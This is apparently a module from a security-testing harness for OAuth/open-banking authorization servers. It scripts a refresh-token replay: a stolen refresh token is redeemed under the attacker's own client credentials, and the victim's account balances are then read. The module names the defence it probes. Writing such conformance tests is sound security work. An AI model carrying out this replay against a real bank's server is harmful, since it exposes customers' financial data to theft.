"""refresh-token-replay: a refresh token read off the token leg, redeemed by the attacker's client.

The A4 attacker reads TPP→AS token exchanges (attacks.md §1), so it holds the refresh
token FinLens received, but not FinLens's credentials. It presents the token with its
own client's authentication (and its own DPoP key where the AS binds tokens): RFC 6749
§6 says the AS must check the token "was issued to the authenticated client".
"""

from __future__ import annotations

from attacker import token_support as ts
from attacker.attack_context import AttackContext
from attacker.attacks import Attack
from attacker.premises import linked_victim


def run(ctx: AttackContext) -> None:
    linked_victim(ctx)
    refresh_token = ts.captured_refresh_token(ctx)
    signer = ctx.dpop_signer() if ts.dpop_required(ts.metadata(ctx)) else None
    form = {"grant_type": "refresh_token", "refresh_token": refresh_token,
            **ctx.own_client_auth("token")}
    response = ts.post_token(ctx, form, signer=signer,
                             what="POST /token grant_type=refresh_token with the stolen refresh "
                                  "token, authenticated as its own client")
    tokens = ts.tokens_or_fail(ctx, response, "the AS refused the stolen refresh token")
    balances = ts.read_balances(ctx, tokens, signer=signer)
    ctx.succeeded(f"refreshed the victim's grant in its own client and read {len(balances)} "
                  "balances", balances)


ATTACK = Attack(
    id="refresh-token-replay", attacker="A4", legs=("token",), victim="prior",
    title="Refresh token redeemed by the attacker's client",
    blocked_by=("refresh_token_client_binding",),
    premise="Reads FinLens's token responses (a TLS-terminating proxy log): the victim's refresh "
            "token, not FinLens's credentials or keys.",
    goal="the victim's balances, through tokens issued to the attacker's own client", run=run,
    refs=("RFC 6749 §6", "RFC 6749 §10.4", "RFC 9449 §5"),
)
